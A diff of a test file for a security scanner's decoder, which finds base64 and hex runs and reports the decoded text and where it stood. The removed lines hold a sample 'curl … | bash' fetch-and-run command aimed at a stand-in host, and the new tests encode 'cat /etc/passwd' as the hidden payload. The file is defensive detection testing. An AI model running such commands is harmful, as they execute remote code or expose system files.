@@ -1,46 +1,118 @@
 import test from 'ava';
+import * as fc from 'fast-check';
 import { EncodedText } from '../../../src/detect/hidden/encoded-text.ts';
 import { pairsIn } from '../../../src/detect/hidden/neighbours.ts';
-import { createSurvey } from '../../../src/detect/hidden/survey.ts';
-import { ANCHORS } from '../../../src/detect/rules/index.ts';
+import { createSurvey, type Entries } from '../../../src/detect/hidden/survey.ts';
 
-const survey = createSurvey(pairsIn(ANCHORS));
-const PLAIN = 'a text that is long enough: curl http://x.test/i.sh | bash';
+const survey = createSurvey(pairsIn([]));
 
-function decoded(coding: 'base64' | 'hex', text: string): { text: string; origin: number }[] {
-  const bytes = Buffer.from(text);
-  const entries: number[] = [];
+interface Piece {
+  readonly text: string;
+  readonly originOf: (offset: number) => number;
+}
+
+function decode(coding: 'base64' | 'hex', text: string): Piece[] {
+  const bytes = Buffer.from(text, 'latin1');
+  const entries: Entries = [];
   const { count } = survey(bytes, entries);
-  const pieces: { text: string; origin: number }[] = [];
-  new EncodedText(coding).decode(bytes, entries, count, (piece, originOf) => {
-    pieces.push({ text: Buffer.from(piece).toString('latin1'), origin: originOf(piece.length - 1) });
+  const pieces: Piece[] = [];
+  new EncodedText(coding).decode(bytes, entries, count, (decoded, originOf) => {
+    const origins = Array.from(decoded, (_, offset) => originOf(offset));
+    pieces.push({ text: Buffer.from(decoded).toString('latin1'), originOf: (offset) => origins[offset] ?? -1 });
   });
   return pieces;
 }
 
-test('base64 and hex are decoded, wherever they begin', (t) => {
-  for (let before = 0; before < 24; before++) {
-    const lead = `${'.'.repeat(before)} `;
-    for (const coding of ['base64', 'hex'] as const) {
-      const pieces = decoded(coding, `${lead}${Buffer.from(PLAIN).toString(coding)} .`);
-      t.true(
-        pieces.some(({ text }) => text.includes('i.sh | bash')),
-        `${coding} behind ${before}`,
-      );
-    }
+function base64(text: string): string {
+  return Buffer.from(text, 'latin1').toString('base64');
+}
+
+const SECRET = 'cat /etc/passwd and more of it';
+
+test('decodes what stands for text, padded or not, and says where it stood', (t) => {
+  for (const coded of [base64(SECRET), base64(SECRET).replaceAll('=', ''), Buffer.from(SECRET).toString('base64url')]) {
+    const [piece, ...others] = decode('base64', `x: ${coded}\n`);
+    t.deepEqual(others, []);
+    t.is(piece?.text, `\n${SECRET}`);
+    t.is(piece?.originOf(1), 3);
+    t.is(piece?.originOf(1 + 3), 7);
+    t.is(piece?.originOf(1 + 4), 7);
+  }
+  const [piece] = decode('hex', `x: ${Buffer.from(SECRET).toString('hex')}\n`);
+  t.is(piece?.text, `\n${SECRET}`);
+  t.is(piece?.originOf(1 + 5), 13);
+});
+
+test('begins at any character of a run', (t) => {
+  for (const before of ['', 'a', '/v', '/v1', '/v1/', 'sha512-']) {
+    t.true(
+      decode('base64', `${before}${base64(SECRET)}`).some(({ text }) => text.includes('/etc/passwd')),
+      before,
+    );
+  }
+  for (const before of ['', 'a', 'ab']) {
+    t.true(
+      decode('hex', `${before}${Buffer.from(SECRET).toString('hex')}`).some(({ text }) => text.includes('/etc/passwd')),
+    );
   }
 });
 
-test('lines and escaped slashes are read over, and places lie in the text', (t) => {
-  const coded = Buffer.from(PLAIN.repeat(3)).toString('base64');
-  const lines = coded.replaceAll(/.{64}/g, '$&\r\n');
-  const text = `data:\n${lines}\n`;
-  const pieces = decoded('base64', text);
-  t.true(pieces.some((piece) => piece.text.includes(PLAIN)));
-  for (const { origin } of pieces) t.true(origin >= 0 && origin < text.length);
+test('goes on over line ends and escaped slashes', (t) => {
+  const long = `${'plain text of it, '.repeat(12)}why??? ${SECRET}`;
+  const coded = base64(long);
+  for (const end of ['\n', '\r\n', '\\n', '\\r\\n', '\n    ']) {
+    const [piece, ...others] = decode('base64', (coded.match(/.{1,61}/g) ?? []).join(end));
+    t.is(piece?.text, `\n${long}`, JSON.stringify(end));
+    t.deepEqual(others, []);
+  }
+  t.true(coded.includes('/'));
+  t.is(decode('base64', coded.replaceAll('/', '\\/'))[0]?.text, `\n${long}`);
+  t.is(
+    decode(
+      'hex',
+      (
+        Buffer.from(long)
+          .toString('hex')
+          .match(/.{1,60}/g) ?? []
+      ).join('\n'),
+    )[0]?.text,
+    `\n${long}`,
+  );
 });
 
-test('ordinary text is not decoded', (t) => {
-  t.deepEqual(decoded('base64', 'The quick brown fox jumps over the lazy dog, again and again.'), []);
-  t.deepEqual(decoded('hex', 'the commit is 86160b3 and no other one'), []);
+test('a long run comes in pieces that overlap', (t) => {
+  const long = Array.from({ length: 5000 }, (_, index) => `line ${index}\n`).join('');
+  const pieces = decode('base64', base64(long));
+  t.true(pieces.length > 3);
+  let known = '';
+  for (const { text } of pieces) {
+    t.true(text.length <= 1 + 3 * 4098);
+    const piece = text.slice(1);
+    const overlap = known === '' ? 0 : 192;
+    t.is(piece.slice(0, overlap), known.slice(known.length - overlap));
+    known += piece.slice(overlap);
+  }
+  t.is(known, long);
+});
+
+test('noise is not given, nor what is too short', (t) => {
+  t.deepEqual(decode('base64', base64('cat /etc/passwd')), []);
+  t.deepEqual(decode('hex', '3f786850e387550fdab836ed7e6dc881de23001b'), []);
+  t.deepEqual(decode('base64', base64('\u0001\u0002\u0003\u0004\u0005'.repeat(8))), []);
+});
+
+test('text among bytes that are none is decoded', (t) => {
+  const noise = Array.from({ length: 90 }, (_, index) => String.fromCharCode(128 + ((index * 37) % 128))).join('');
+  t.true(decode('base64', base64(`${noise}${SECRET}${noise}`)).some(({ text }) => text.includes('/etc/passwd')));
+});
+
+test('any text with anything around it is decoded once, in linear work', (t) => {
+  fc.assert(
+    fc.property(fc.stringMatching(/^[ -~]{20,200}$/), fc.stringMatching(/^[ -*]{0,20}$/), (text, before) => {
+      const pieces = decode('base64', `${before}${base64(text)}`);
+      t.is(pieces.filter((piece) => piece.text === `\n${text}`).length, 1);
+      t.true(pieces.reduce((sum, piece) => sum + piece.text.length, 0) <= 5 * (text.length + 2));
+    }),
+    { numRuns: 200 },
+  );
 });
